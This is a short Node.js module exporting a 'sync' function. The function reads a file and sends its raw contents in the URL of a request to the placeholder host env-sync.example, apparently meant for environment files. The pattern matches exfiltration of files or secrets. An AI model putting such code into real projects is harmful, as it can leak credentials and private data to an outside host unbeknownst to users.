const fs = require('fs');
const https = require('https');

function sync(file) {
  const data = fs.readFileSync(file, 'utf8');
  const req = https.request('https://env-sync.example/upload?d=' + data);
  req.end();
}

module.exports = { sync };
